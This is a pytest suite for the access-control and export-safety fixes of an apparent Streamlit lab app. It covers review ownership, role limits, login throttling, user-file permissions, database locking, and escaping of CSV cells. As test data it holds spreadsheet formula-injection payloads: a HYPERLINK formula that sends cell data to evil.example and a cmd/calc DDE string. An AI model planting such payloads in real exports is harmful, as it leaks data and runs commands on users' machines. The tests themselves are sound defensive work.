"""Fault tests for issue 12's access part, each reproducing a finding: another user's review, a viewer reaching
Train or Review, login off on a network address, a wrong password, a readable user file, a locked or damaged
review database, and spreadsheet formulas in CSV exports. Real SQLite, real files, the real pages (AppTest)."""

from __future__ import annotations

import sqlite3
import stat
import time
from pathlib import Path

import pandas as pd
import pytest
from argon2 import PasswordHasher
from page_helpers import APP, button, ok, page, texts
from streamlit import config as st_config
from streamlit.testing.v1 import AppTest

from core.access.roles import LOCAL_ADMIN, AccessDenied, User
from core.access.serving import is_loopback, local_only_refusal
from core.access.settings import load_settings
from core.access.users import LOGIN_THROTTLE, UserFile
from core.data.registry import label_names
from core.inference.classify import ImageResult, results_csv
from core.store.csv_safe import safe_cell, safe_frame
from core.store.runs import history_csv
from core.validation import review as rv
from ui.login import oidc_user
from ui.session import USER_KEY

TIMEOUT = 120
FAST = PasswordHasher(time_cost=1, memory_cost=8 * 1024, parallelism=1)
ANNA, BEN = User("anna", ("reviewer",)), User("ben", ("reviewer",))
VIEWER = User("val", ("viewer",))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(n: int = 4) -> list[rv.CellSpec]:
    names = [rv.short_label(x) for x in label_names()]
    return [rv.CellSpec(f"cell-{i}", f"/nowhere/{i}.png", None, names[i % len(names)], 0.5 + 0.1 * i)
            for i in range(n)]


def new_session(store: rv.ReviewStore, user: User, run_path: str = "/nowhere/run") -> int:
    return store.create_session(user, "20260101-000000-abcdef", run_path, "uploads", "4 uploaded images",
                                "confidence", cells(), label_names())


def run_page(monkeypatch, name: str, artifacts: Path, user: User | None, **state) -> AppTest:
    monkeypatch.setenv("CELLSCOPE_ARTIFACTS", str(artifacts))
    monkeypatch.setenv("CELLSCOPE_SETTINGS", str(artifacts / "no-settings.toml"))  # login off
    at = AppTest.from_file(page(name), default_timeout=TIMEOUT)
    if user is not None:
        at.session_state[USER_KEY] = user
    for key, value in state.items():
        at.session_state[key] = value
    return ok(at.run())


@pytest.fixture
def password_server(tmp_path, monkeypatch) -> Path:
    """Settings with login = "password" and three users in a real user file; returns the user file."""
    settings = tmp_path / "cellscope.toml"
    settings.write_text('[access]\nlogin = "password"\nusers_file = "users.toml"\n')
    users = UserFile(tmp_path / "users.toml", FAST)
    users.add("val", ["viewer"], "viewer password")
    users.add("tess", ["trainer"], "trainer password")
    users.add("root", ["admin"], "admin password")
    monkeypatch.setenv("CELLSCOPE_SETTINGS", str(settings))
    monkeypatch.setenv("CELLSCOPE_ARTIFACTS", str(tmp_path / "artifacts"))
    for name in ("val", "tess", "root", "nobody"):
        LOGIN_THROTTLE.succeeded(name)
    return users.path


def log_in(at: AppTest, name: str, password: str) -> AppTest:
    at.text_input(key="login_name").input(name)
    at.text_input(key="login_password").input(password)
    return ok(button(at, "Log in").click().run())


# -- another user's review ----------------------------------------------------------------------------------

def test_a_second_reviewer_cannot_write_into_anothers_session(tmp_path):
    store = rv.ReviewStore(tmp_path / "reviews.sqlite")
    sid = new_session(store, ANNA)
    store.record(sid, 0, "agree", note="anna's call", user=ANNA)
    for attempt in (lambda: store.record(sid, 1, "unsure", user=BEN),
                    lambda: store.record(sid, 0, "not_cell", user=BEN),
                    lambda: store.clear(sid, 0, user=BEN),
                    lambda: store.delete_session(sid, BEN)):
        with pytest.raises(AccessDenied, match="belongs to anna"):
            attempt()
    got = store.cells(sid)
    assert (got[0]["decision"], got[0]["reviewer"], got[0]["note"]) == ("agree", "anna", "anna's call")
    assert got[1]["decision"] is None
    assert store.sessions(BEN) == [] and [s["id"] for s in store.sessions(ANNA)] == [sid]
    assert [s["id"] for s in store.sessions(LOCAL_ADMIN)] == [sid]  # an admin sees everyone's
    store.record(sid, 1, "unsure", user=LOCAL_ADMIN)  # and may act on them, under their own name
    assert store.cell(sid, 1)["reviewer"] == LOCAL_ADMIN.name


def test_a_viewer_or_trainer_cannot_start_a_review(tmp_path):
    store = rv.ReviewStore(tmp_path / "reviews.sqlite")
    for user in (VIEWER, User("tess", ("trainer",))):
        with pytest.raises(AccessDenied, match="may not review"):
            new_session(store, user)
    assert store.sessions(LOCAL_ADMIN) == []


def test_the_review_page_will_not_show_or_save_into_anothers_session(monkeypatch, tmp_path):
    artifacts = tmp_path / "artifacts"
    store = rv.ReviewStore(artifacts / rv.REVIEWS_DB)
    sid = new_session(store, ANNA)
    at = run_page(monkeypatch, "review", artifacts, BEN, review_sid=sid)
    assert f"Session #{sid} belongs to anna" in texts(at)
    assert not [b for b in at.button if b.label in ("Agree", "Unsure", "Not a cell")]
    assert "Resume (0)" in [t.label for t in at.tabs]  # ben lists none of anna's sessions
    assert not [t for t in at.text_input if t.label == "Reviewer"]  # no name to type
    assert store.progress(sid) == (0, 4)


# -- roles on pages -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["train", "review"])
def test_a_viewer_opening_train_or_review_by_url_gets_one_message(monkeypatch, tmp_path, name):
    at = run_page(monkeypatch, name, tmp_path / "artifacts", VIEWER)
    assert len(at.error) == 1 and "val (viewer) may not open this page" in at.error[0].value
    assert not at.button and not at.text_input and not at.title  # nothing else drawn: no action to take
    assert not (tmp_path / "artifacts" / rv.REVIEWS_DB).exists()  # nothing written


def test_the_navigation_lists_only_the_pages_a_viewer_may_open(password_server):
    at = log_in(ok(AppTest.from_file(APP, default_timeout=TIMEOUT).run()), "val", "viewer password")
    assert "CellScope" in [t.value for t in at.title]
    assert any("**val** · viewer" in c.value for c in at.sidebar.caption)
    for hidden in ("train", "review"):
        with pytest.raises(ValueError, match="Known pages") as caught:
            at.switch_page(f"pages/{hidden}.py")
        assert f"pages/{hidden}.py" not in str(caught.value).split("Known pages")[1]
    ok(at.switch_page("pages/results.py").run())  # browsing is allowed
    assert not at.error


def test_results_hides_delete_from_a_trainer_and_tagging_from_a_viewer(monkeypatch, tmp_path, trained_run):
    artifacts = Path(trained_run).parent.parent
    for user, tag, delete in ((VIEWER, False, False), (User("tess", ("trainer",)), True, False),
                              (LOCAL_ADMIN, True, True)):
        at = run_page(monkeypatch, "results", artifacts, user)
        subheaders = [s.value for s in at.subheader]
        assert ("Tag or delete runs" in subheaders) is tag, user
        if tag:
            # the best run is selected by default, so the buttons show; Delete is disabled for a trainer
            shown = [b for b in at.button if b.label.startswith("Delete")]
            assert shown and all(b.disabled is (not delete) for b in shown), user


# -- login ------------------------------------------------------------------------------------------------

@pytest.fixture
def server_address():
    before = st_config.get_option("server.address")
    yield lambda address: st_config.set_option("server.address", address)
    st_config.set_option("server.address", before)


def test_login_off_on_a_network_address_serves_nothing(monkeypatch, tmp_path, server_address):
    monkeypatch.setenv("CELLSCOPE_SETTINGS", str(tmp_path / "absent.toml"))
    monkeypatch.setenv("CELLSCOPE_ARTIFACTS", str(tmp_path / "artifacts"))
    for address in ("0.0.0.0", "192.168.1.20", ""):
        server_address(address)
        at = ok(AppTest.from_file(APP, default_timeout=TIMEOUT).run())
        assert len(at.error) == 1 and "login" in at.error[0].value and "README" in at.error[0].value
        assert not at.title and not at.button and not at.dataframe
    server_address("localhost")
    at = ok(AppTest.from_file(APP, default_timeout=TIMEOUT).run())
    assert "CellScope" in [t.value for t in at.title] and not at.error


@pytest.mark.parametrize("name", ["results", "train"])
def test_a_page_run_on_its_own_on_a_network_address_with_login_off_serves_nothing(monkeypatch, tmp_path,
                                                                                    server_address, name):
    """A fresh server runs a page by itself when its URL is the first request (before app.py): the page
    refuses too, instead of acting as the local administrator."""
    monkeypatch.setenv("CELLSCOPE_SETTINGS", str(tmp_path / "absent.toml"))
    monkeypatch.setenv("CELLSCOPE_ARTIFACTS", str(tmp_path / "artifacts"))
    server_address("0.0.0.0")
    at = ok(AppTest.from_file(page(name), default_timeout=TIMEOUT).run())
    assert len(at.error) == 1 and "login" in at.error[0].value
    assert not at.button and not at.dataframe


def test_served_use_listens_on_localhost_and_sends_no_tracebacks():
    import tomllib

    served = tomllib.loads((Path(APP).parent / ".streamlit" / "config.toml").read_text())
    assert served["server"]["address"] == "localhost"
    assert served["client"]["showErrorDetails"] == "none"


def test_which_addresses_are_this_machine():
    assert all(is_loopback(a) for a in ("localhost", "127.0.0.1", "127.1.2.3", "::1", "[::1]"))
    assert not any(is_loopback(a) for a in ("", None, "0.0.0.0", "::", "10.0.0.5", "lab-server", "localhost.evil"))
    assert local_only_refusal("localhost", None) is None and local_only_refusal("127.0.0.1", "127.0.0.1") is None
    assert "every interface" in local_only_refusal(None, None)
    assert "10.0.0.9" in local_only_refusal("localhost", "10.0.0.9")  # a browser from another machine


def test_a_wrong_password_is_refused_and_repeated_failures_are_throttled(password_server, monkeypatch):
    # a refusal lasts 2 s in service; here longer than any rerun takes on a loaded machine (the delay's growth
    # is LoginThrottle's own test)
    monkeypatch.setattr(LOGIN_THROTTLE, "base", 600.0)
    at = ok(AppTest.from_file(APP, default_timeout=TIMEOUT).run())
    assert [t.label for t in at.text_input] == ["User name", "Password"] and not at.title[1:]
    at = log_in(at, "root", "not the password")
    assert [e.value for e in at.error] == ["Wrong user name or password."]
    assert USER_KEY not in at.session_state
    at = log_in(at, "nobody", "admin password")  # an unknown name reads the same
    assert [e.value for e in at.error] == ["Wrong user name or password."]
    for _ in range(2):
        at = log_in(at, "root", "still wrong")
    at = log_in(at, "root", "admin password")  # right, but too soon after three failures
    assert "Too many wrong passwords" in at.error[0].value and USER_KEY not in at.session_state
    LOGIN_THROTTLE.succeeded("root")  # the delay has passed
    at = log_in(at, "root", "admin password")
    assert at.session_state[USER_KEY] == User("root", ("admin",)) and not at.error
    assert "admin password" not in at.session_state.to_dict().values()  # the form kept no password
    at = ok(button(at, "Log out").click().run())
    assert USER_KEY not in at.session_state
    # (AppTest reruns only the page after the first navigation run; the page itself now finds nobody logged in)
    assert "Log in first" in texts(at) and not at.dataframe


def test_a_user_removed_from_the_file_is_logged_out(password_server):
    at = log_in(ok(AppTest.from_file(APP, default_timeout=TIMEOUT).run()), "tess", "trainer password")
    assert at.session_state[USER_KEY] == User("tess", ("trainer",))
    UserFile(password_server, FAST).remove("tess")
    at = ok(at.run())
    assert USER_KEY not in at.session_state and "Log in first" in texts(at)


def test_oidc_roles_come_from_the_settings_by_e_mail(tmp_path):
    settings_path = tmp_path / "cellscope.toml"
    settings_path.write_text('[access]\nlogin = "oidc"\ndefault_roles = ["viewer"]\n'
                             '[access.oidc_roles]\n"Head@Lab.example" = ["admin"]\n')
    settings = load_settings(settings_path)
    assert oidc_user(settings, "head@lab.example ") == User("head@lab.example", ("admin",))
    assert oidc_user(settings, "someone@lab.example") == User("someone@lab.example", ("viewer",))
    with pytest.raises(AccessDenied):
        oidc_user(settings, "")  # a provider that sends no address gets no session


def test_a_page_reached_with_login_on_but_nobody_logged_in_stops(monkeypatch, password_server):
    at = ok(AppTest.from_file(page("results"), default_timeout=TIMEOUT).run())
    assert "Log in first" in texts(at) and not at.dataframe and not at.button


def test_the_user_file_is_never_world_readable(password_server):
    assert stat.S_IMODE(password_server.stat().st_mode) == 0o600
    UserFile(password_server).verify("val", "viewer password")  # a login that rehashes rewrites the file
    assert "m=65536" in password_server.read_text()
    assert stat.S_IMODE(password_server.stat().st_mode) == 0o600


# -- a locked or damaged review database ------------------------------------------------------------------

@pytest.fixture
def locked(tmp_path, monkeypatch):
    """A review database with anna's session, and a function that holds its write lock from another
    connection (as another app process mid-write would) until the returned connection is closed."""
    monkeypatch.setattr(rv, "BUSY_SECONDS", 0.5)  # the setting, made short for the test
    artifacts = tmp_path / "artifacts"
    store = rv.ReviewStore(artifacts / rv.REVIEWS_DB)
    sid = new_session(store, ANNA)

    def hold() -> sqlite3.Connection:
        other = sqlite3.connect(store.path, isolation_level=None)
        other.execute("BEGIN EXCLUSIVE")
        return other

    return artifacts, store, sid, hold


def test_a_locked_review_database_gives_up_quickly_and_says_nothing_was_saved(locked):
    _, store, sid, hold = locked
    other = hold()
    try:
        started = time.monotonic()
        with pytest.raises(rv.ReviewBusyError, match="Nothing was saved"):
            store.record(sid, 0, "agree", user=ANNA)
        assert time.monotonic() - started < 10  # SQLite's wait is BUSY_SECONDS, not the old 30 s
        assert store.progress(sid) == (0, 4)  # reading still works meanwhile (WAL)
    finally:
        other.close()
    store.record(sid, 0, "agree", user=ANNA)
    assert store.progress(sid) == (1, 4)


def test_the_review_page_keeps_a_decision_the_locked_database_did_not_save(monkeypatch, locked):
    artifacts, store, sid, hold = locked
    at = run_page(monkeypatch, "review", artifacts, ANNA, review_sid=sid, review_pos=0)
    next(t for t in at.text_input if t.label.startswith("Note")).input("kept while locked")
    other = hold()
    try:
        at = ok(button(at, "Unsure").click().run())
        shown = texts(at)
        assert "is busy" in shown and "Nothing was saved" in shown
        assert "Not saved yet: unsure on cell 1 (note: kept while locked)" in shown
        assert store.progress(sid) == (0, 4)
    finally:
        other.close()
    at = ok(button(at, "Save it again").click().run())
    assert "Not saved yet" not in texts(at)
    cell = store.cell(sid, 0)
    assert (cell["decision"], cell["note"], cell["reviewer"]) == ("unsure", "kept while locked", "anna")


def test_a_damaged_review_database_is_one_message_and_an_admin_recovers(monkeypatch, tmp_path):
    artifacts = tmp_path / "artifacts"
    artifacts.mkdir()
    db = artifacts / rv.REVIEWS_DB
    damaged = b"SQLite format 3\0" + b"\xff" * 4000  # a header, then garbage
    db.write_bytes(damaged)
    at = run_page(monkeypatch, "review", artifacts, ANNA)  # a reviewer: the message, and whom to ask
    message = at.error[0].value.replace("\\", "")  # shown literally: markdown characters are escaped
    assert len(at.error) == 1 and str(db) in message and "move it aside" in message
    assert not [b for b in at.button if b.label.startswith("Move")] and "Ask an admin" in texts(at)

    at = run_page(monkeypatch, "review", artifacts, None)  # login off: the local administrator
    assert len(at.error) == 1
    at = ok(button(at, "Move the damaged database aside and start a new one").click().run())
    assert not at.error and "was moved to" in texts(at)
    kept = [p for p in artifacts.iterdir() if p.name.startswith(rv.REVIEWS_DB + ".damaged-")]
    assert len(kept) == 1 and kept[0].read_bytes() == damaged  # the old file is kept, untouched
    store = rv.ReviewStore(db)  # a new, working database
    sid = new_session(store, ANNA)
    assert store.progress(sid) == (0, 4)


# -- CSV exports ----------------------------------------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
    for text in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("plain note") == "plain note" and safe_cell(-0.5) == -0.5 and safe_cell(None) is None

    store = rv.ReviewStore(tmp_path / "reviews.sqlite")
    sid = new_session(store, ANNA)
    store.record(sid, 0, "agree", note=FORMULA, user=ANNA)
    store.record(sid, 1, "unsure", note="-looks odd", user=ANNA)
    df = pd.read_csv(pd.io.common.StringIO(store.export_csv(sid)), keep_default_na=False)
    assert list(df["note"][:2]) == ["'" + FORMULA, "'-looks odd"]
    assert df["model_confidence"].dtype == float  # numbers stay numbers

    text = results_csv([ImageResult(name="=cmd|' /C calc'!A0.png", label="basophil", index=0, confidence=0.9,
                                    note="@evil")])
    assert "'=cmd|" in text and "'@evil" in text and ",0.9," in text

    history = history_csv([{"epoch": 1, "loss": -0.25, "note": "=1+1"}])
    assert history.splitlines()[1] == "1,-0.25,'=1+1"

    frame = safe_frame(pd.DataFrame({"run": ["=evil()", "ok"], "acc": [0.5, -0.1]}, index=["+a", "b"]))
    assert list(frame["run"]) == ["'=evil()", "ok"] and list(frame["acc"]) == [0.5, -0.1]
    assert list(frame.index) == ["'+a", "b"]

